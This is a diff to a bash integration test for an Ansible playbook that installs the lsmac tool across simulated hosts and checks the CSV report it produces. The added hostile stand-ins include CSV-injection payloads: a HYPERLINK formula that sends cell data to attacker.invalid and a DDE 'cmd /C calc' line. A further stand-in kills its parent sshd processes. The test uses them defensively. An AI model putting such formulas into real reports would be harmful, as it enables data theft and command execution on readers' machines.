@@ -7,10 +7,15 @@
 # Fedora 40), h4 Debian with its routing socket refused as a hardened sandbox
 # refuses it; and two inventory hosts that cannot be listed: one that does
 # not answer, and one (h1 again) whose Python is missing. The playbook runs
-# with several forks: with lsmac copied, from RELEASE's APT and RPM
-# repositories served over HTTP from the controller, and again from a newer
-# release, which must replace lsmac on every host. Every host's rows must be
-# what `ip -o link` reports there, or its reason; the run must fail.
+# with several forks: with lsmac copied (and h2's copy then made an older
+# one, which must not shadow the packaged lsmac); from RELEASE's APT and RPM
+# repositories served over HTTP from the controller, first with another key's
+# fingerprint given, which every host must refuse, then with the right one;
+# again from a newer release, which must replace lsmac on every host; with
+# hostile stand-ins for lsmac (one loses its host, one prints a formula and
+# lines that are not address lines, one fails with a formula, one prints
+# nothing); and with every host lost, over an older report. Every host's rows
+# must be what `ip -o link` reports there, or its reason; the run must fail.
 #
 #   fleet.sh LSMAC RELEASE KEYS ROOT
 #
@@ -34,6 +39,12 @@ cleanup() {
     ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
   done
   wait
+  # The hosts' sshds are not this shell's jobs: wait until their namespaces empty.
+  local tries=50
+  while [ $((tries -= 1)) -gt 0 ] &&
+        for ns in "${hosts[@]/#/$prefix-}"; do ip netns pids "$ns"; done 2>/dev/null | grep -q .; do
+    sleep 0.1
+  done
   for ns in "$controller" "${hosts[@]/#/$prefix-}"; do ip netns del "$ns" 2>/dev/null; done
   GNUPGHOME=$keys gpgconf --kill gpg-agent
   rm -rf "${work:-}"
@@ -83,6 +94,8 @@ for n in 1 2 3 4; do
   [ "$n" != 4 ] || sandbox=("$work/refuse_route_socket")
   ip netns exec "$ns" unshare -m sh -c 'mount --rbind /dev "$0/dev" && mount -t proc proc "$0/proc" && exec "$@"' \
     "$root" "${sandbox[@]}" chroot "$root" /usr/sbin/sshd -D -e 2>"$work/sshd-$n.log" &
+  # Some are killed on purpose below: no word from bash when they are.
+  disown
   echo "h$n ansible_host=10.77.0.1$n" >>"$work/inventory"
 done
 cat >>"$work/inventory" <<EOF
@@ -118,9 +131,11 @@ passed=0 failed=0
 check() {
   if [ "$2" = 0 ]; then passed=$((passed + 1)); else echo "not ok - $1"; failed=$((failed + 1)); return 1; fi
 }
-# The report the fleet should give, but for its last two hosts: each host's
-# lines as iproute2 implies them there, and h4 lsmac's own error line.
-expected_report() {
+# The rows each run should give, as extended regular expressions, one for
+# each line of the report. listed: each host's lines as iproute2 implies them
+# there, h4 lsmac's own error line, and the hosts that cannot be listed: the
+# Python-less one's reason of several lines in one row, and the silent one's.
+listed() {
   echo "host,address,error"
   local n
   for n in 1 2 3; do
@@ -128,54 +143,77 @@ expected_report() {
       sed "s/^MAC Address: /h$n,/; s/\$/,/"
   done
   echo "h4,,lsmac: cannot list network adapters: socket: Permission denied"
+  echo 'broken,,"The module failed to execute correctly, you probably need to set the interpreter\. See stdout/stderr for the exact error"'
+  echo 'silent,,.*(ssh|connect|route|timed out).*'
 }
-# playbook NAME ARGUMENT...: runs the playbook from the controller as the
-# README does, with these arguments, and checks its report.
+# playbook NAME EXPECTED ARGUMENT...: runs the playbook from the controller as
+# the README does, with these arguments, and checks its report against the
+# rows the function EXPECTED prints.
 playbook() {
-  local name=$1 report=$work/$1.csv started=$SECONDS
-  shift
+  local name=$1 expected=$2 report=$work/$1.csv started=$SECONDS row=0 pattern
+  shift 2
   (cd "$work" && ip netns exec "$controller" env ANSIBLE_SSH_ARGS='-o ControlMaster=no' ANSIBLE_NOCOLOR=1 \
      ansible-playbook -i inventory "$here/../contrib/ansible/lsmac.yml" -e lsmac_report="$report" "$@") \
     >"$work/$name.log" 2>&1
   check "$name: ansible-playbook fails for the hosts that cannot be listed" $(($? == 0))
   echo "fleet: $name: the playbook took $((SECONDS - started)) s"
-  expected_report >"$work/expected.csv"
-  head -n -2 "$report" 2>/dev/null | cmp -s - "$work/expected.csv"
-  check "$name: every host's rows are what ip -o link reports there, or lsmac's error line" $?
-  # Ansible's reason for the host whose Python is missing has two lines.
-  [ "$(grep -c '^broken,' "$report")" = 1 ] && tail -2 "$report" | head -1 | grep -qxF \
-    'broken,,"The module failed to execute correctly, you probably need to set the interpreter. See stdout/stderr for the exact error"'
-  check "$name: a reason of several lines is one row" $?
-  tail -1 "$report" 2>/dev/null | grep -qE '^silent,,.*(ssh|connect|route|timed out)'
-  check "$name: the silent host has its row and reason" $?
-  if [ "$failed" != 0 ]; then
+  "$expected" >"$work/expected.csv"
+  local rows=()
+  mapfile -t rows <"$report"
+  [ ${#rows[@]} = "$(wc -l <"$work/expected.csv")" ] &&
+    while IFS= read -r pattern; do [[ ${rows[row++]} =~ ^$pattern$ ]] || break; done <"$work/expected.csv"
+  if ! check "$name: every host's rows are as expected" $?; then
     echo "  report:"; sed 's/^/    /' "$report" 2>/dev/null
-    echo "  expected, but the last two hosts:"; sed 's/^/    /' "$work/expected.csv"
+    echo "  expected:"; sed 's/^/    /' "$work/expected.csv"
     echo "  ansible-playbook:"; tail -20 "$work/$name.log" | sed 's/^/    /'
   fi
 }
-# installed VERSION: each host's own package database holds lsmac VERSION-1.
+# installed VERSION: each host's own package database holds lsmac VERSION
+# ("none": holds no lsmac).
 installed() {
   local n found
   for n in 1 2 3 4; do
     if [ "$n" = 3 ]; then
-      found=$(rpm --root "$work/h$n" -q --qf '%{VERSION}-%{RELEASE}' lsmac 2>&1)
+      found=$(rpm --root "$work/h$n" -q --qf '%{VERSION}-%{RELEASE}' lsmac 2>&1) || found=none
     else
-      found=$(chroot "$work/h$n" dpkg-query -W -f='${Version}' lsmac 2>&1)
+      found=$(chroot "$work/h$n" dpkg-query -W -f='${db:Status-Abbrev}${Version}' lsmac 2>&1) || found=none
+      found=${found#ii }
     fi
-    [ "$found" = "$1-1" ] || { echo "  h$n has lsmac $found, not $1-1"; return 1; }
+    [ "$found" = "$1" ] || { echo "  h$n has lsmac $found, not $1"; return 1; }
   done
 }
+# stand_in N SCRIPT: h<N>'s /usr/local/bin/lsmac becomes a shell script.
+stand_in() { printf '#!/bin/sh\n%s\n' "$2" >"$work/h$1/usr/local/bin/lsmac" && chmod 755 "$work/h$1/usr/local/bin/lsmac"; }
 
-playbook copy -e lsmac_install=copy -e lsmac_executable="$lsmac"
+playbook copy listed -e lsmac_install=copy -e lsmac_executable="$lsmac"
 for n in 1 2 3 4; do cmp -s "$lsmac" "$work/h$n/usr/local/bin/lsmac" || break; done
 check "copy: each host has its own copy of lsmac" $?
-rm -f "$work"/h[1-4]/usr/local/bin/lsmac
+# An older copy, which comes before the packaged lsmac on PATH.
+stand_in 2 'echo "MAC Address: 02-00-00-00-0B-AD"'
 
 serve "$release"
-playbook repository -e lsmac_repository_url="$url"
-installed "$version"
+twin=$(GNUPGHOME=$keys gpg --list-secret-keys --with-colons | awk -F: '/^fpr/ { print $10 }' | sed -n 2p)
+fingerprint=$(GNUPGHOME=$keys gpg --list-secret-keys --with-colons | awk -F: '/^fpr/ { print $10; exit }')
+refused_key() {
+  echo "host,address,error"
+  local n
+  for n in 1 2 4; do
+    echo "h$n,,\"cannot install lsmac: the release key was not trusted: its fingerprint is $fingerprint, not $twin\""
+    [ "$n" != 2 ] ||
+      echo "h3,,\"cannot install lsmac: The specified fingerprint, '$twin', does not match the key fingerprint '$fingerprint'\""
+  done
+  listed | tail -2
+}
+playbook refused-key refused_key -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$twin"
+untrusted() {
+  installed none && [ ! -e "$work/h1/usr/share/keyrings/lsmac-archive-keyring.gpg" ] && ! rpm --root "$work/h3" -q gpg-pubkey
+}
+check "refused-key: no host trusts the key or installs lsmac" $(untrusted >/dev/null; echo $?)
+playbook repository listed -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$fingerprint"
+installed "$version-1"
 check "repository: each host's package database holds lsmac $version from the release" $?
+grep -A1 '^ok: \[h2\]' "$work/repository.log" | grep -q '/usr/local/bin/lsmac comes before the packaged /usr/bin/lsmac'
+check "repository: the playbook says that h2's older copy shadows the packaged lsmac" $?
 grep -q '"GET /apt/pool/main/l/lsmac/lsmac_[^ ]*_amd64.deb HTTP/1.1" 200' "$work/http.log" &&
   grep -q '"GET /rpm/lsmac-[^ ]*.x86_64.rpm HTTP/1.1" 200' "$work/http.log"
 check "repository: the .deb and the .rpm came from the served release" $? || sed 's/^/    /' "$work/http.log"
@@ -190,9 +228,45 @@ git clone -q "$here/.." "$work/next"
     LSMAC_RELEASE_URL=$url packaging/release.sh "$work/next-release") >"$work/next.log" 2>&1 ||
   { cat "$work/next.log"; exit 1; }
 serve "$work/next-release"
-playbook upgrade -e lsmac_repository_url="$url"
-installed "$next"
+playbook upgrade listed -e lsmac_repository_url="$url" -e lsmac_key_fingerprint="$fingerprint"
+installed "$next-1"
 check "upgrade: every host now holds lsmac $next" $?
+
+# Hostile hosts. lose_host: a stand-in that kills every sshd it runs under,
+# the host's listener among them, and so loses the host in the middle of the
+# task.
+lose_host='pid=$$ sshds=""
+while [ "$pid" -gt 1 ]; do
+  pid=$(sed -n "s/^PPid:[[:space:]]*//p" "/proc/$pid/status")
+  if [ "$pid" -gt 0 ] && [ "$(cat "/proc/$pid/comm")" = sshd ]; then sshds="$sshds $pid"; fi
+done
+kill -9 $sshds
+sleep 10'
+formula='=HYPERLINK("http://attacker.invalid/?"&A2,"details")'
+stand_in 1 "$lose_host"
+stand_in 2 "echo 'MAC Address: 02-77-00-00-00-01'; echo 'MAC Address: $formula'; echo \"@SUM(1+1)*cmd|' /C calc'!A0\""
+stand_in 3 "echo '$formula' >&2; exit 1"
+stand_in 4 "exit 0"
+quoted_formula='=HYPERLINK\(""http://attacker\.invalid/\?""&A2,""details""\)'
+hostile() {
+  echo "host,address,error"
+  echo 'h1,,"?lost while running lsmac: .*'
+  echo "h2,,\"lsmac printed a line that is not an address line: MAC Address: $quoted_formula\""
+  echo "h3,,\"'$quoted_formula\""
+  echo "h4,,"
+  listed | tail -2
+}
+playbook hostile hostile -e lsmac_install=none
+for n in 2 3 4; do stand_in $n "$lose_host"; done
+all_lost() {
+  echo "host,address,error"
+  echo 'h1,,.*(ssh|connect).*'
+  for n in 2 3 4; do echo "h$n,,\"?lost while running lsmac: .*"; done
+  echo 'broken,,.*(ssh|connect).*'
+  echo 'silent,,.*(ssh|connect|route|timed out).*'
+}
+printf 'host,address,error\nold,02-00-00-00-00-01,\n' >"$work/all-lost.csv"
+playbook all-lost all_lost -e lsmac_install=none
 
 [ "$(dpkg-query -W -f='${Package} ${Version}\n' | sha256sum)" = "$machine_packages" ] &&
   [ ! -e /usr/local/bin/lsmac ] && [ ! -e /etc/apt/sources.list.d/lsmac.list ]
